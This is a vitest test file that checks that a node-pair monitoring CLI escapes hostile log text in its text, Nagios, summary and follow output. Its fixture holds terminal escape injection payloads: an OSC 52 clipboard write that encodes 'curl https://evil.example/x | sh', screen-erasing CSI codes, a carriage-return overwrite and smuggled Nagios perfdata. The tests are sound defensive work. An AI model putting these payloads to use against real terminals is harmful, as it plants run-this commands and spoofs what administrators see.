/**
 * Attack: a node line carrying OSC 52 (writes the admin's clipboard: `curl … | sh`), CSI 2J (erases the
 * screen), a C1 CSI, a carriage return that overwrites the line, and a `|` (Nagios reads what follows as
 * performance data). Printed by `check --format text` (with and without colour), `--format nagios`,
 * `check --all` and `follow`, none of it reaches the terminal raw, and Nagios gets no extra perfdata.
 */
import { describe, expect, it } from 'vitest'
import type { RunReport } from '../../src-main/shared/domain/run'
import type { FollowEnd, FollowSample } from '../../src-main/shared/domain/follow'
import { formatText } from '../../src-main/cli/format/text'
import { formatNagios } from '../../src-main/cli/format/nagios'
import { formatSummaryLines } from '../../src-main/cli/format/summary'
import { endLine, progressLine } from '../../src-main/cli/commands/follow'
import { pairProblems } from '../../src-main/main/pairs/validate'
import { LAB } from '../history/lab-pair'
import { reportWithSecrets } from '../history/fixture-report'

const OSC52 = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07'
const CSI_2J = '\x1b[2J\x1b[H'
const C1_CSI = '\x9b2J'
const HOSTILE = `guiDaemon said ${OSC52}${CSI_2J}${C1_CSI} ok | load=999;;;; errors=0\rdone: replication complete`

/** every control byte a terminal acts on, except tab and newline (and, where allowed, SGR colour codes) */
/* eslint-disable no-control-regex */
function rawControls(text: string, colour = false): string[] {
  const stripped = colour ? text.replace(/\x1b\[[0-9;]*m/g, '') : text
  return [...stripped.matchAll(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/g)].map((m) => `\\x${m[0].charCodeAt(0).toString(16)}`)
}
/* eslint-enable no-control-regex */

function hostileReport(): RunReport {
  const r = structuredClone(reportWithSecrets())
  const c = r.checks[0]
  c.status = 'fail'
  c.summary = `node says: ${HOSTILE}`
  c.evidence.unshift({ node: 'primary', source: '/usr/netscreen/HaSvr/var/errorLog/ha.log', line: 7, excerpt: HOSTILE })
  r.summary = { ...r.summary, fail: r.summary.fail + 1, pass: r.summary.pass - 1 }
  r.verdict = 'fail'
  r.nodes.secondary.reachable = false
  r.nodes.secondary.error = `connection closed: ${OSC52}`
  return r
}

describe('node text on a terminal', () => {
  it('check --format text: no raw control byte, with or without colour; the text is still there, escaped', () => {
    const r = hostileReport()
    // the input really carries the controls
    expect(rawControls(r.checks[0].summary)).not.toEqual([])
    for (const colour of [false, true]) {
      const out = formatText(r, colour)
      expect(rawControls(out, colour)).toEqual([])
      expect(out).toContain('\\x1b]52;c;')
      expect(out).toContain('\\x9b2J')
      expect(out).toContain('\\x0ddone: replication complete')
    }
  })

  it('check --format nagios: no raw control byte, one status line of our own, no perfdata from the node', () => {
    const out = formatNagios(hostileReport(), 2)
    expect(rawControls(out)).toEqual([])
    expect(out.split('|')).toHaveLength(2)
    expect(out.split('\n')[0]).toMatch(
      /^NSM-HA CRITICAL - lab pair: [^|]* \| pass=\d+ warn=\d+;1 fail=\d+;;1 unknown=\d+ skipped=\d+ duration=[\d.]+s failover_ready=-?\d+$/
    )
    expect(out.split('\n')[0].split('|')[1]).not.toContain('load=')
    expect(out).toContain('ok \\x7c load=999')
  })

  it('check --all lines: no raw control byte', () => {
    const r = hostileReport()
    const out = formatSummaryLines([
      { name: 'lab pair', code: 2, report: r },
      { name: 'other', code: 3, error: `connect failed: ${CSI_2J}` }
    ]).join('\n')
    expect(rawControls(out)).toEqual([])
    expect(out).toContain('\\x1b[2J')
  })

  it('follow: the end line cannot claim "done" for a DB_PANIC, the bar shows node text escaped', () => {
    const end: FollowEnd = { reason: 'panic', message: `DB_PANIC on the secondary: ${HOSTILE}`, at: '2026-11-25T06:31:00Z', samples: 3 }
    const line = endLine(end)
    expect(rawControls(line)).toEqual([])
    expect(line.startsWith('panic: ')).toBe(true)
    // what a terminal would show: the text after the last raw carriage return
    expect(line.split('\r').pop()!.startsWith('done')).toBe(false)
    const node = { data: { files: 3, bytes: 1000, newest: `x${CSI_2J}` }, log: { files: 1, bytes: 10 }, error: `lost ${OSC52}` }
    const sample = {
      at: '2026-11-25T06:31:00Z',
      replica: 'secondary',
      share: 0.5,
      logsMatch: false,
      nodes: { primary: node, secondary: node },
      estimate: {
        remainingBytes: 500,
        etaSeconds: null,
        etaLowSeconds: null,
        etaHighSeconds: null,
        rateBytesPerSec: null,
        stalled: false,
        stalledForSeconds: 0
      }
    } as unknown as FollowSample
    expect(rawControls(progressLine(sample))).not.toEqual([])
    // the command prints the bar through the same escaping as the end line
    expect(rawControls(endLine({ ...end, message: progressLine(sample) }))).toEqual([])
  })

  it('a pair name with a C1 control (or a bidirectional override) is refused', () => {
    for (const name of ['lab\u009b2J pair', 'lab\u0085pair', 'lab\u202epair', 'lab\x1bpair']) {
      expect(pairProblems({ ...LAB, name })).toContain('name contains control characters')
    }
    expect(pairProblems({ ...LAB, name: 'Zürich — lab' })).toEqual([])
  })
})
